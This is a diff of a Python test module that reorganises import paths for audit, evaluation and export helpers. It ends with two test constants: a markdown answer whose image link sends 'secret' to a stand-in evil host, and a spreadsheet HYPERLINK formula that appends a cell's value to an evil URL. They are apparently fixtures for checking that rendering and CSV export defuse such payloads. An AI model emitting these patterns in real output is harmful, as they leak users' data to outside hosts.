@@ -10,15 +10,15 @@ import re
 from pathlib import Path
 
 import pandas as pd
-
-from backend.audit import AuditLog, audit_csv
-from backend.db import make_engine, migrate
-from backend.eval_runs import export_diff_csv
-from backend.exports import csv_dicts, frame_csv, safe_cell
-from backend.golden import GoldItem, GoldRef, export_csv
-from console.markup import answer_md, with_citation_badges
 from actors import ADMIN
 from apptest_kit import ask, chat_page, console_config, data_dir, extractive  # noqa: F401 - fixtures
+
+from backend.access.audit import AuditLog, audit_csv
+from backend.db import make_engine, migrate
+from backend.evaluation.golden import GoldItem, GoldRef, export_csv
+from backend.evaluation.runs import export_diff_csv
+from backend.exports import csv_dicts, frame_csv, safe_cell
+from console.markup import answer_md, with_citation_badges
 
 EVIL_ANSWER = "The answer [1]. ![x](http://evil/?q=secret) Also [click](http://evil) and <http://evil/a>."
 FORMULA = '=HYPERLINK("http://evil/?d="&A1,"click")'
